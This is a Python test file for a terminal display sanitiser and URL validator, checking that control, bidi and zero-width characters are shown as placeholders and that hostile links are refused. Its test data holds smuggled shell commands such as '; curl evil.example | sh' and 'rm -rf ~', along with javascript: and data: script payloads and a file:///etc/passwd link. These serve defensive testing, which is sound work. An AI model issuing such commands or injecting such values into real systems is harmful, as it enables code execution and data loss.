"""The display sanitiser: controls become visible placeholders, one character for one character."""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Callable
from typing import TypeVar

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from index.sanitize import REPLACED, REPLACEMENT, display_safe, json_text, one_line, url_host, url_problem

#: Invisible characters the list must hold besides those Unicode's categories find below.
_MARKS_AND_ZERO_WIDTH = {"\u061c", "\u200e", "\u200f", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff"}
_BIDI_CLASSES = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}

#: Edge cases every property test also runs on, whatever Hypothesis draws.
EDGE_CASES = [
    "\u2028", "\u2029", "\x85", "\u202e", "\u200b", "\ufeff", "\x9b", "\x1b", "\u061c", "\u2064", "\u2066", "\ufffb",
    "\udcff", "\x7f", "\x1c\x1d\x1e\x1f", "\r\n\t", "", "a\u2028b\u2029c\x85d", "\x1b[2J\x9b31m\u202eabc\u200b",
]  # fmt: skip
_Test = TypeVar("_Test", bound=Callable[..., None])


def on_edge_cases(*rest: object) -> Callable[[_Test], _Test]:
    """Run a property on every edge case too, with ``rest`` as its remaining arguments."""

    def apply(test: _Test) -> _Test:
        for case in EDGE_CASES:
            test = example(case, *rest)(test)
        return test

    return apply


#: Text biased towards the characters that matter, mixed with anything else.
_NASTY = st.text(
    alphabet=st.sampled_from(sorted(REPLACED | {"\n", "\t", "[", "]", "/", "a", "é", "界", "😀"}))
    | st.characters(codec=None),
    max_size=80,
)


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1b]0;pwned\x07", "\u241b]0;pwned\u2407"),  # OSC title change: ESC and BEL made visible
        ("a\x00b", "a\u2400b"),
        ("del\x7f", "del\u2421"),
        ("\x9b31m", REPLACEMENT + "31m"),  # 8-bit CSI
        ("abc\u202edcba", "abc" + REPLACEMENT + "dcba"),  # right-to-left override
        ("pay\u200bpal", "pay" + REPLACEMENT + "pal"),
        ("\ufeffBOM", REPLACEMENT + "BOM"),
        ("caf\udce9.md", "caf" + REPLACEMENT + ".md"),  # undecodable file-name byte (surrogate escape)
        ("cr\rlf", "cr\u240dlf"),
    ],
)
def test_controls_become_placeholders(raw: str, shown: str) -> None:
    assert display_safe(raw) == shown


def test_replaced_holds_every_control_separator_and_bidi_character() -> None:
    """An oracle independent of the list: Unicode's categories and bidi classes, plus the named marks."""
    required = {
        char
        for char in map(chr, range(0x110000))
        if unicodedata.category(char) in ("Cc", "Cs", "Zl", "Zp") or unicodedata.bidirectional(char) in _BIDI_CLASSES
    }
    required |= _MARKS_AND_ZERO_WIDTH
    assert sorted(required - {"\n", "\t"} - REPLACED) == []
    assert "\n" not in REPLACED and "\t" not in REPLACED


def test_clean_text_is_returned_unchanged() -> None:
    text = "Chinese group [bold red]breaches[/] Cambodian bodies — 界 😀\n\tindented"
    assert display_safe(text) is text


def test_surrogates_become_encodable() -> None:
    assert display_safe("x\udcff").encode("utf-8") == "x\ufffd".encode()


def test_one_line_folds_whitespace_and_caps() -> None:
    assert one_line("  a\n\tb \x1b c ") == "a b \u241b c"
    long = "word " * 200
    capped = one_line(long, limit=50)
    assert len(capped) == 50
    assert capped.endswith("…")
    assert one_line("short", limit=50) == "short"


@given(_NASTY)
@on_edge_cases()
def test_display_safe_is_safe_and_same_length(text: str) -> None:
    shown = display_safe(text)
    assert len(shown) == len(text)
    assert not REPLACED.intersection(shown)
    for original, safe in zip(text, shown, strict=True):
        if original not in REPLACED:  # includes \n and \t
            assert safe == original
    shown.encode("utf-8")  # always writable to a UTF-8 terminal


@given(_NASTY)
@on_edge_cases()
def test_display_safe_is_idempotent(text: str) -> None:
    once = display_safe(text)
    assert display_safe(once) == once


@given(_NASTY, st.integers(min_value=1, max_value=100))
@on_edge_cases(1)
@on_edge_cases(3)
def test_one_line_has_no_line_breaks_and_respects_limit(text: str, limit: int) -> None:
    shown = one_line(text, limit)
    assert len(shown) <= limit
    assert "\n" not in shown
    assert not REPLACED.intersection(shown)
    assert all(unicodedata.category(char) != "Cc" for char in shown if char != "\t")


HIDDEN = "\x1b\x85\x9b\x7f\u202e\u2066\u200b\u200f\ufeff\u2028\udcff"


def test_json_text_escapes_what_json_leaves_raw() -> None:
    value = {"title": f"a{HIDDEN}b é 日本", HIDDEN: [HIDDEN, 1, None]}
    text = json_text(value)
    assert not any(char in text for char in HIDDEN)
    assert "é 日本" in text  # readable text stays readable
    assert json.loads(text) == value
    assert "\\u202e" in text and "\\udcff" in text


@given(st.text())
def test_json_text_round_trips_and_prints_nothing_unsafe(text: str) -> None:
    dumped = json_text({"t": text}, indent=None)
    assert json.loads(dumped) == {"t": text}
    assert display_safe(dumped) == dumped  # nothing a terminal would act on or hide
    dumped.encode("utf-8")  # lone surrogates are escaped, so printing never fails


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://www.cyberscoop.com/chinese-group/", "www.cyberscoop.com"),
        ("HTTP://Example.COM:8080/a?b=c#d", "example.com"),
        ("https://[2001:db8::1]/report", "2001:db8::1"),
        ("https://bücher.example/", "bücher.example (xn--bcher-kva.example)"),
        ("https://xn--bcher-kva.example/", "xn--bcher-kva.example"),
        ("https://trusted.com.aaaa@evil.example/", "evil.example"),
        ("https://user:pw@trusted.com/", "trusted.com"),
        ("https://example.com./", "example.com."),
    ],
)
def test_plain_web_links_may_be_opened_and_name_their_real_host(url: str, host: str) -> None:
    assert url_problem(url) is None
    assert url_host(url) == host


@pytest.mark.parametrize(
    ("url", "why"),
    [
        ("", "no URL"),
        ("javascript:alert(1)", "http and https"),
        ("JaVaScRiPt://example.com/%0Aalert(1)", "http and https"),
        ("file:///etc/passwd", "http and https"),
        ("data:text/html,<script>alert(1)</script>", "http and https"),
        ("ftp://example.com/x", "http and https"),
        ("https://example.com/\nrm -rf ~", "U+000A"),
        ("https://example.com/ ; curl evil.example | sh", "U+0020"),
        ("https://example.com/\x1b[201~; rm -rf ~", "U+001B"),
        ("https://example.com/\x9b201~", "U+009B"),
        ("https://example.com/\u202egpj.exe", "U+202E"),
        ("https://exa\u200bmple.com/", "U+200B"),
        ("https://example.com/\u00a0", "U+00A0"),
        ("https://example.com/\u2028", "U+2028"),
        ("https://exam\u00adple.com/", "U+00AD"),
        ("https://evil.example\\@trusted.com/", "backslash"),
        ("https:\\\\evil.example", "backslash"),
        ("https:///path-only", "no host"),
        ("http:example.com", "no host"),
        ("https://", "no host"),
        ("https://example.com:99999/", "well-formed"),
        ("https://[::1/", "well-formed"),
        ("https://[not-an-address]/", "IPv6"),
        ("https://evil%2Eexample/", "host name"),
        ("https://evil..example/", "host name"),
        ('https://ex"ample.com/', "host name"),
    ],
)
def test_hostile_links_are_refused_with_a_reason(url: str, why: str) -> None:
    problem = url_problem(url)
    assert problem is not None and why in problem, problem
    assert url_host(url) == ""


@given(st.text(max_size=80))
def test_an_accepted_link_has_no_character_a_terminal_or_shell_would_act_on(tail: str) -> None:
    url = "https://example.com/" + tail
    if url_problem(url) is None:
        assert not any(char.isspace() or unicodedata.category(char) in {"Cc", "Cf"} for char in url)
        assert "\\" not in url and url_host(url) == "example.com"
